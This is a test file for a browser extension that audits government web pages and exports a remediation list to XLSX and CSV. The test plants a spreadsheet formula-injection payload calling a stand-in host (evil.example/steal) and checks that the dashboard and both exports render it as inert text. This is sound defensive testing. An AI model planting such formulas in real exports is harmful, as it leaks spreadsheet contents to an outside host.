/**
 * The 整改清单 work-flow as a person does it in Chromium: audit several government pages, open the
 * dashboard, mark one finding as a false positive (with a note) and a set as ignored in bulk, export
 * XLSX and CSV through the browser's download, then read the downloaded files from disk.
 * One page carries a 名称 field `=HYPERLINK(...)`: its excerpt must arrive in the files as text.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { fixture, launch, serve, storedFindings, waitFor, type Browser, type Site, inExtension } from './harness';

const EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"点此查看")';
const HEADERS = ['序号', '网站', '栏目', '页面标题', '页面地址', '问题类型', '级别', '问题描述', '原文摘录', '修改建议', '发现时间', '最近检查', '状态', '备注', '整改期限', '责任人', '整改情况', '截图'];

let site: Site;
let b: Browser;
const anhui = fixture('pages/anhui-style.html');
const PAGES: Record<string, string> = {
  '/zwgk/a.html': anhui.replace('<span class="con">合肥市人民政府办公室关于印发合肥市2025年政务公开工作要点的通知</span>', `<span class="con">${EVIL.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}</span>`),
  '/zwgk/b.html': fixture('pages/yunnan-changning-bad-checkdigit.html'),
  '/zwgk/c.html': fixture('pages/doc-number-bad.html'),
};

beforeAll(async () => {
  site = await serve(PAGES);
  b = await launch();
  // This test counts the page findings; the link pass (its own e2e test) would add more as it goes.
  await inExtension(b, async () => (globalThis as any).chrome.storage.local.set({ config: { profile: 'daily', rules: { 'link/broken': 'off' } } }), null);
});
afterAll(async () => {
  await b?.close();
  await site?.close();
});

async function download(page: Page, testid: string, dir: string): Promise<string> {
  const [dl] = await Promise.all([page.waitForEvent('download', { timeout: 60000 }), page.click(`[data-testid="${testid}"]`)]);
  const path = join(dir, dl.suggestedFilename());
  await dl.saveAs(path);
  return path;
}

describe('dashboard in Chromium', () => {
  it('audits pages, changes statuses, exports XLSX and CSV that read back right', async () => {
    const urls = Object.keys(PAGES).map((p) => site.origin('www.hf.gov.cn') + p);
    const tab = await b.context.newPage();
    const stored: Awaited<ReturnType<typeof storedFindings>>[] = [];
    for (const url of urls) {
      await tab.goto(url);
      stored.push(await waitFor(async () => {
        const f = await storedFindings(b, url);
        return f.length ? f : null;
      }, `检查结果写入 IndexedDB：${url}`));
    }
    const total = stored.reduce((n, s) => n + s.length, 0);
    const evil = stored[0].find((f) => f.ruleId === 'catalog/title-mismatch');
    expect(evil, 'the =HYPERLINK 名称 is reported as catalog/title-mismatch').toBeTruthy();

    const dash = await b.openExtensionPage('dashboard.html?status=all');
    await dash.waitForSelector('body[data-counts-ready]');
    expect(await dash.locator('html').getAttribute('lang')).toBe('zh-CN');
    expect(await dash.locator('[data-testid="total"]').textContent()).toBe(`共 ${total} 条`);
    expect(await dash.locator('[data-count-field="status"] tr[data-key="open"] td.n').textContent()).toBe(String(total));
    expect(await dash.locator('[data-count-field="ruleId"] tr[data-key="catalog/title-mismatch"]').count()).toBe(1);
    // The list leads with what to fix first: 严重, then 一般, then 提示.
    const levels = await dash.locator('table.findings tbody tr[data-fp]').evaluateAll((rows) => rows.map((r) => /lv-(\w+)/.exec(r.className)![1]));
    const rank = { error: 0, warn: 1, info: 2 } as Record<string, number>;
    expect(levels.length).toBeGreaterThan(1);
    expect(levels.map((l) => rank[l])).toEqual([...levels.map((l) => rank[l])].sort((a, b) => a - b));

    // Search, open the detail: the excerpt is shown as text, not markup or a link.
    await dash.fill('[data-testid="search"]', 'HYPERLINK');
    await dash.waitForFunction(() => {
      const rows = [...document.querySelectorAll('table.findings tbody tr[data-fp]')];
      return rows.length > 0 && rows.every((r) => r.textContent!.includes('HYPERLINK'));
    });
    expect(await dash.locator(`tr[data-fp="${evil!.fingerprint}"]`).count()).toBe(1);
    await dash.click(`tr[data-fp="${evil!.fingerprint}"] td.msg`);
    const detail = dash.locator('[data-testid="finding-detail"]');
    expect(await detail.locator('.excerpt').textContent()).toBe(EVIL);
    expect(await detail.locator('a[href^="http://evil"]').count()).toBe(0);
    expect(await detail.locator(".url a").getAttribute("href")).toMatch(/^http:\/\/www\.hf\.gov\.cn:\d+\/zwgk\/a\.html$/);
    await detail.locator('select').selectOption('false-positive');
    await detail.locator('input[aria-label="备注"]').fill('名称系测试数据');
    await detail.locator('button', { hasText: '更改状态' }).click();
    await dash.waitForFunction(() => document.querySelector('[data-testid="detail-status"]')?.textContent?.includes('误报'));
    expect(await detail.locator('.history li').count()).toBe(2);

    // Bulk: every catalog/empty-field finding → ignored, through the count table and the selection.
    await dash.fill('[data-testid="search"]', '');
    await dash.click('[data-count-field="ruleId"] tr[data-key="catalog/empty-field"]');
    await dash.waitForFunction(() => [...document.querySelectorAll('table.findings tbody tr[data-rule]')].every((r) => r.getAttribute('data-rule') === 'catalog/empty-field') && document.querySelectorAll('table.findings tbody tr[data-rule]').length > 0);
    const emptyCount = await dash.locator('table.findings tbody tr[data-rule]').count();
    await dash.check('table.findings thead input[type=checkbox]');
    const bulk = dash.locator('[data-testid="bulk-selected"]');
    await bulk.locator('select').selectOption('ignored');
    await bulk.locator('button').click();
    await dash.waitForFunction(() => document.querySelector('[data-testid="notice"]')?.textContent?.includes('已忽略'));
    expect(await dash.locator('[data-testid="notice"]').textContent()).toBe(`已将 ${emptyCount} 条问题标记为“已忽略”`);
    const after = (await Promise.all(urls.map((u) => storedFindings(b, u)))).flat();
    expect(after.filter((f) => f.status === 'ignored').length).toBe(emptyCount);
    expect(after.find((f) => f.fingerprint === evil!.fingerprint)!.status).toBe('false-positive');

    // Export everything, XLSX and CSV, through the browser's download.
    await dash.selectOption('[data-testid="export-scope"]', 'all');
    // Everything, 提示 included (left out by default).
    await dash.check('[data-testid="export-info"]');
    const xlsxPath = await download(dash, 'export-xlsx', b.downloads);
    expect(xlsxPath).toMatch(/整改清单-\d{8}-\d{4}\.xlsx$/);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(xlsxPath);
    const ws = wb.getWorksheet('问题清单')!;
    expect((ws.getRow(1).values as unknown[]).slice(1)).toEqual(HEADERS);
    expect(ws.rowCount).toBe(total + 1);
    const rows = Array.from({ length: total }, (_, i) => ws.getRow(i + 2));
    for (const r of rows) {
      const link = r.getCell(5).value as { text: string; hyperlink: string };
      expect(link.hyperlink).toBe(link.text);
      expect(urls).toContain(link.hyperlink);
    }
    const evilRow = rows.find((r) => String(r.getCell(9).value).includes('HYPERLINK'))!;
    expect(evilRow.getCell(9).value).toBe("'" + EVIL);
    expect(evilRow.getCell(9).type).toBe(ExcelJS.ValueType.String);
    expect(evilRow.getCell(13).value).toBe('误报');
    expect(evilRow.getCell(14).value).toBe('名称系测试数据');
    expect(rows.filter((r) => r.getCell(13).value === '已忽略').length).toBe(emptyCount);
    expect(rows.every((r) => ['严重', '一般', '提示'].includes(String(r.getCell(7).value)))).toBe(true);
    expect(wb.getWorksheet('汇总')).toBeTruthy();
    const cover = wb.getWorksheet('封面')!;
    expect(cover.getRow(6).values).toEqual([undefined, '范围', '全部问题']);

    const csvPath = await download(dash, 'export-csv', b.downloads);
    const csv = readFileSync(csvPath, 'utf8');
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const lines = csv.slice(1).split('\r\n');
    expect(lines[0]).toBe(HEADERS.join(','));
    expect(lines.filter((l) => /^\d+,/.test(l)).length).toBe(total);
    expect(csv).toContain(`"'${EVIL.replace(/"/g, '""')}"`);
    expect(csv).not.toMatch(/,=HYPERLINK/);
  });
});
